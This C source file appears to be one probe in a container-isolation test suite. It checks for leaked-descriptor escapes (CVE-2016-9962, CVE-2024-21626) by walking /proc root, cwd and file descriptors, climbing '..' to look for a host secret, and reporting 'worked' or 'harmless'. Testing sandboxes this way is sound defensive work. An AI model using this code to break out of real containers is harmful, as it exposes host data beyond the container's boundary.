// SPDX-License-Identifier: GPL-2.0-only
// Leaked descriptors, CVE-2016-9962 and CVE-2024-21626: any directory that any
// visible process has open, works in or has as its root, if it leads outside.
#include <dirent.h>

#include "attack.h"

static int looked;

/* also from above it, as far as ".." goes */
static bool leads_out(const char *name)
{
	char up[4096];
	int fd, i;

	for (i = 0; i < 12; i++) {
		snprintf(up, sizeof(up), "%s/%.*s", name, 3 * i,
			 "../../../../../../../../../../../../");
		fd = open(up, O_RDONLY | O_DIRECTORY);
		if (fd < 0)
			return false;
		looked++;
		if (file_has_secret(fd))
			return true;
		close(fd);
	}
	return false;
}

static void look(const char *process)
{
	static const char *const names[] = { "root", "cwd" };
	struct dirent *entry;
	char name[600];
	unsigned int i;
	DIR *fds;

	for (i = 0; i < 2; i++) {
		snprintf(name, sizeof(name), "/proc/%s/%s", process, names[i]);
		if (leads_out(name))
			worked("/secret of the host by root or cwd");
	}
	snprintf(name, sizeof(name), "/proc/%s/fd", process);
	fds = opendir(name);
	while (fds && (entry = readdir(fds))) {
		if (entry->d_name[0] == '.')
			continue;
		snprintf(name, sizeof(name), "/proc/%s/fd/%s", process,
			 entry->d_name);
		if (leads_out(name))
			worked("/secret of the host by a descriptor");
	}
	if (fds)
		closedir(fds);
}

int main(void)
{
	DIR *proc = opendir("/proc");
	struct dirent *entry;

	NEED(proc);
	while ((entry = readdir(proc)))
		if (atoi(entry->d_name))
			look(entry->d_name);
	NEED(looked);
	harmless("all directories are the guest's");
}
